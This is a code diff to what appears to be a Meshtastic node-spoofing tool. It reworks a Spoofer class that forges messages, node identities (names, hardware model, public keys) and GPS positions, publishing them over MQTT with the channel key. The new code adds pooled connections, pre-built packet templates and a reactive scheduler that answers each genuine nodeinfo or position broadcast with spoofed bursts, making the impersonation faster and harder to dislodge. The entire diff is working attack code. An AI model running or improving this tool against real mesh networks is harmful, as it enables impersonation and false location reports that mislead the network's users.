@@ -1,15 +1,15 @@
-from src.mesh.packet.crafter import send_position, send_message, send_node_info
-from src.clients.mqtt_client import connect_and_get_client, disconnect_client
-from settings import MQTT_BROKER, MQTT_PORT, MQTT_USERNAME, MQTT_PASSWORD, ROOT_TOPIC, CHANNEL, KEY, DEBUG, BROADCAST_MAC, CLIENT_ID
-from src.utils import set_topic, hw_model_to_num
+from src.mesh.packet.crafter import send_position, send_message, send_node_info, PacketTemplate
+from src.clients.publisher_pool import PUBLISHERS
+from settings import ROOT_TOPIC, CHANNEL, KEY, DEBUG, BROADCAST_MAC
+from src.utils import set_topic, hw_model_to_num, id_to_num
 from src.clients.db_client import DB
 import time
 import logging
 import random
 from meshtastic.protobuf import portnums_pb2
 from src.agents.sniffer import Sniffer
+from src.agents.reactive import ReactiveScheduler
 import threading
-from contextlib import contextmanager
 
 def _get_publish_topic(gateway_node):
     return set_topic(gateway_node, ROOT_TOPIC, CHANNEL)
@@ -17,40 +17,34 @@ def _get_publish_topic(gateway_node):
 class Spoofer:
     def __init__(self):
         self.global_message_id = random.getrandbits(32)
+        self._id_lock = threading.Lock()
+        self.reactive = None
 
-    def _get_mqtt_client(self, publish_topic, timeout=5):
-        client = connect_and_get_client(
-            MQTT_BROKER, MQTT_PORT, MQTT_USERNAME, MQTT_PASSWORD, KEY, DEBUG, lambda: None, publish_topic, CLIENT_ID
-        )
-        # Wait for connection (max timeout seconds)
-        waited = 0
-        while not client.is_connected() and waited < timeout:
-            time.sleep(0.1)
-            waited += 0.1
-        if not client.is_connected():
-            logging.error(f"MQTT client failed to connect after {timeout} seconds!")
-        return client
+    def _next_packet_id(self):
+        # Bursts run concurrently on the reactive workers, so ids are handed out under a lock
+        with self._id_lock:
+            packet_id = self.global_message_id
+            self.global_message_id = (self.global_message_id + 1) & 0xFFFFFFFF
+            return packet_id
 
-    @contextmanager
-    def mqtt_client_context(self, publish_topic):
-        client = self._get_mqtt_client(publish_topic)
-        try:
-            yield client
-        finally:
-            disconnect_client(client, DEBUG)
+    def close(self):
+        """Stop the reactive workers and close the pooled publisher connections."""
+        if self.reactive:
+            self.reactive.close()
+            logging.info(f"[Reactive] {self.reactive.stats()}")
+            self.reactive = None
+        logging.info(f"[Publisher] {PUBLISHERS.stats()}")
+        PUBLISHERS.close()
 
     def spoof_message(self, to_node, message_text, from_node, gateway_node=None):
         publish_topic = _get_publish_topic(gateway_node or BROADCAST_MAC)
-        mqtt_client = self._get_mqtt_client(publish_topic)
-        time.sleep(1)
-        if mqtt_client and mqtt_client.is_connected():
+        mqtt_client = PUBLISHERS.get(publish_topic)
+        if mqtt_client:
             logging.info(f"Spoofing message: {message_text}")
             send_message(
                 to_node, message_text, from_node, CHANNEL, KEY,
-                self.global_message_id, from_node, publish_topic, mqtt_client, DEBUG
+                self._next_packet_id(), from_node, publish_topic, mqtt_client, DEBUG
             )
-            self.global_message_id += 1
-        disconnect_client(mqtt_client, DEBUG)
 
     def _burst_send(self, send_func, burst=1, period=0, logger_msg=None):
         # Use 1 and 0 as defaults, as no global default is needed
@@ -70,15 +64,15 @@ class Spoofer:
         hw = hw_model_to_num(hw_model) if hw_model is not None else 43  # Use 43 as default, or import from settings if you wish
         publish_topic = _get_publish_topic(gateway_node or BROADCAST_MAC)
         def send():
-            with self.mqtt_client_context(publish_topic) as mqtt_client:
-                if mqtt_client and mqtt_client.is_connected():
-                    logging.info(f"Spoofing nodeinfo...")
-                    send_node_info(
-                        to_node, True, from_node, CHANNEL, KEY, self.global_message_id,
-                        short, long, short, hw, pubkey,
-                        publish_topic, mqtt_client, DEBUG
-                    )
-                    self.global_message_id += 1
+            # The whole burst goes over the same pooled connection
+            mqtt_client = PUBLISHERS.get(publish_topic)
+            if mqtt_client:
+                logging.info(f"Spoofing nodeinfo...")
+                send_node_info(
+                    to_node, True, from_node, CHANNEL, KEY, self._next_packet_id(),
+                    short, long, short, hw, pubkey,
+                    publish_topic, mqtt_client, DEBUG
+                )
         self._burst_send(send, burst, period, logger_msg="Spoofing nodeinfo")
 
     def spoof_position(self, to_node, lat, lon, alt, from_node, gateway_node=None, burst=1, period=0):
@@ -90,13 +84,12 @@ class Spoofer:
         al = alt if alt is not None else 0.0
         publish_topic = _get_publish_topic(gateway_node or BROADCAST_MAC)
         def send():
-            with self.mqtt_client_context(publish_topic) as mqtt_client:
-                if mqtt_client and mqtt_client.is_connected():
-                    logging.info(f"Spoofing position...")
-                    send_position(
-                        to_node, la, lo, al, from_node, CHANNEL, KEY, self.global_message_id, from_node, publish_topic, mqtt_client, DEBUG
-                    )
-                    self.global_message_id += 1
+            mqtt_client = PUBLISHERS.get(publish_topic)
+            if mqtt_client:
+                logging.info(f"Spoofing position...")
+                send_position(
+                    to_node, la, lo, al, from_node, CHANNEL, KEY, self._next_packet_id(), from_node, publish_topic, mqtt_client, DEBUG
+                )
         self._burst_send(send, burst, period, logger_msg="Spoofing position")
 
     def spoof_node(self, to_node, from_node, short_name, long_name, hw_model, lat, lon, alt, pubkey, gateway_node=None, burst=1, period=0):
@@ -131,46 +124,48 @@ class Spoofer:
             'pubkey': pubkey,
         })
         logging.debug(f"Resolved spoof parameters: {params}")
+        publish_topic = _get_publish_topic(gateway_node or BROADCAST_MAC)
+        # Connect the publisher up front so a trigger only costs the publish itself
+        PUBLISHERS.get(publish_topic)
+        # Spoof packets are pre-serialized once per destination; a trigger only patches id/time and encrypts
+        templates = {}
+        def templates_for(to_num):
+            if to_num not in templates:
+                templates[to_num] = self.build_templates(to_num, from_node, params)
+            return templates[to_num]
+        self.reactive = ReactiveScheduler()
         logging.info("Active spoofing mode enabled. Waiting for nodeinfo/position packets...")
 
-        def on_packet_received(packet, decoded_data, portnum, from_node_mac, to_node_mac, **node_kwargs):
+        def on_packet_received(packet, decoded_data, portnum, from_node_mac, to_node_mac, context=None, **node_kwargs):
             logging.info(f"Packet received from {from_node_mac} to {to_node_mac} on port {portnum}")
+            triggered_at = context.timings['received'] if context is not None else None
+            from_num = getattr(packet, 'from')
             if portnum == portnums_pb2.NODEINFO_APP:
-                if node_kwargs['short_name'] == params['short_name'] and \
-                    node_kwargs['long_name'] == params['long_name'] and \
-                    node_kwargs['hw_model'] == params['hw_model'] and \
-                    node_kwargs['pubkey'] == params['pubkey']:
-                        logging.debug("Nodeinfo matches, not spoofing again.")
+                if self.matches_spoofed(portnum, params, node_kwargs):
+                    logging.debug("Nodeinfo matches, not spoofing again.")
                 else:
                     logging.info("Nodeinfo packet received, spoofing nodeinfo burst...")
                     logging.debug(f"Nodeinfo params: {params}")
                     logging.debug(f"Nodeinfo kwargs: {node_kwargs}")
-                    threading.Thread(target=self.spoof_nodeinfo, kwargs={
-                        'to_node': to_node_mac,
-                        'from_node': from_node_mac,
-                        'short_name': params['short_name'],
-                        'long_name': params['long_name'],
-                        'hw_model': params['hw_model'],
-                        'pubkey': params['pubkey'],
-                        'burst': burst,
-                        'period': period,
-                        'gateway_node': gateway_node
-                    }, daemon=True).start()
+                    self.reactive.trigger(
+                        (from_num, portnum),
+                        lambda on_publish: self.emit_burst(
+                            templates_for(packet.to)[portnum], publish_topic, burst, period, on_publish
+                        ),
+                        triggered_at
+                    )
             elif portnum == portnums_pb2.POSITION_APP:
-                if node_kwargs['lat'] == params['lat'] and node_kwargs['lon'] == params['lon'] and node_kwargs['alt'] == params['alt']:
+                if self.matches_spoofed(portnum, params, node_kwargs):
                     logging.debug("Position matches, not starting spoofing burst.")
                 else:
                     logging.info("Position packet received, spoofing position burst...")
-                    threading.Thread(target=self.spoof_position, kwargs={
-                        'to_node': to_node_mac,
-                        'lat': params['lat'],
-                        'lon': params['lon'],
-                        'alt': params['alt'],
-                        'from_node': from_node_mac,
-                        'burst': burst,
-                        'period': period,
-                        'gateway_node': gateway_node
-                    }, daemon=True).start()
+                    self.reactive.trigger(
+                        (from_num, portnum),
+                        lambda on_publish: self.emit_burst(
+                            templates_for(packet.to)[portnum], publish_topic, burst, period, on_publish
+                        ),
+                        triggered_at
+                    )
         # freeze the node db entry
         DB.set_freeze(from_node, True)
         try:
@@ -187,6 +182,48 @@ class Spoofer:
             DB.set_freeze(from_node, False)
             logging.info(f"Node {from_node} unfrozen after spoofing session.")
 
+    @staticmethod
+    def matches_spoofed(portnum, params, node_kwargs):
+        """True if a received nodeinfo/position packet already carries the spoofed values."""
+        if portnum == portnums_pb2.NODEINFO_APP:
+            return node_kwargs['short_name'] == params['short_name'] and \
+                node_kwargs['long_name'] == params['long_name'] and \
+                node_kwargs['hw_model'] == params['hw_model'] and \
+                node_kwargs['pubkey'] == params['pubkey']
+        if portnum == portnums_pb2.POSITION_APP:
+            return node_kwargs['lat'] == params['lat'] and node_kwargs['lon'] == params['lon'] and node_kwargs['alt'] == params['alt']
+        return False
+
+    def build_templates(self, to_num, from_node, params):
+        """Pre-serialized nodeinfo and position packets for the resolved spoof parameters, by portnum."""
+        from_num = id_to_num(from_node)
+        return {
+            portnums_pb2.NODEINFO_APP: PacketTemplate.node_info(
+                to_num, True, from_num, CHANNEL, KEY, params['short_name'],
+                params['long_name'], params['short_name'], params['hw_model'], params['pubkey']
+            ),
+            portnums_pb2.POSITION_APP: PacketTemplate.position(
+                to_num,
+                params['lat'] if params['lat'] is not None else 0.0,
+                params['lon'] if params['lon'] is not None else 0.0,
+                params['alt'] if params['alt'] is not None else 0.0,
+                from_num, CHANNEL, KEY, from_node
+            ),
+        }
+
+    def emit_burst(self, template, publish_topic, burst, period, on_publish=None):
+        """Publish a packet template `burst` times over the pooled connection."""
+        mqtt_client = PUBLISHERS.get(publish_topic)
+        if not mqtt_client:
+            return
+        for i in range(burst):
+            template.publish(self._next_packet_id(), publish_topic, mqtt_client, DEBUG)
+            if on_publish:
+                on_publish()
+            logging.debug(f"Spoofed packet (burst {i+1}/{burst}) on {publish_topic}")
+            if i < burst - 1:
+                time.sleep(period)
+
     def spoof_periodic(self, to_node, from_node, short_name, long_name, hw_model, lat, lon, alt, pubkey, gateway_node=None, interval=60, burst=1, period=1):
         """
         Periodic mode: Spoof node every `interval` seconds, using resolved parameters.
@@ -201,10 +238,12 @@ class Spoofer:
             'pubkey': pubkey,
         })
         logging.info(f"Periodic spoofing mode enabled. Spoofing every {interval} seconds.")
+        publish_topic = _get_publish_topic(gateway_node or BROADCAST_MAC)
+        templates = self.build_templates(id_to_num(to_node), from_node, params)
         try:
             while True:
-                self.spoof_nodeinfo(to_node, from_node, params['short_name'], params['long_name'], params['hw_model'], params['pubkey'], gateway_node, burst=burst, period=period)
-                self.spoof_position(to_node, params['lat'], params['lon'], params['alt'], from_node, gateway_node, burst=burst, period=period)
+                self.emit_burst(templates[portnums_pb2.NODEINFO_APP], publish_topic, burst, period)
+                self.emit_burst(templates[portnums_pb2.POSITION_APP], publish_topic, burst, period)
                 time.sleep(interval)
         except KeyboardInterrupt:
             logging.info("Periodic spoofing stopped by user.")
@@ -258,11 +297,10 @@ class Spoofer:
         Returns a dict of spoofable parameters for a node from the DB, or None if not found.
         """
         try:
-            # Try to find by node_mac first, fallback to node_number if node_id is int
+            # Try node_id (!abcd1234) or node_mac first, fallback to node_number if node_id is int
             node = None
             if isinstance(node_id, str):
-                node = DB.get_all_nodes()
-                node = next((n for n in node if getattr(n, 'node_mac', None) == node_id), None)
+                node = DB.get_node_by_id(node_id) if node_id.startswith('!') else DB.get_node_by_mac(node_id)
             if node is None:
                 try:
                     node_number = int(node_id)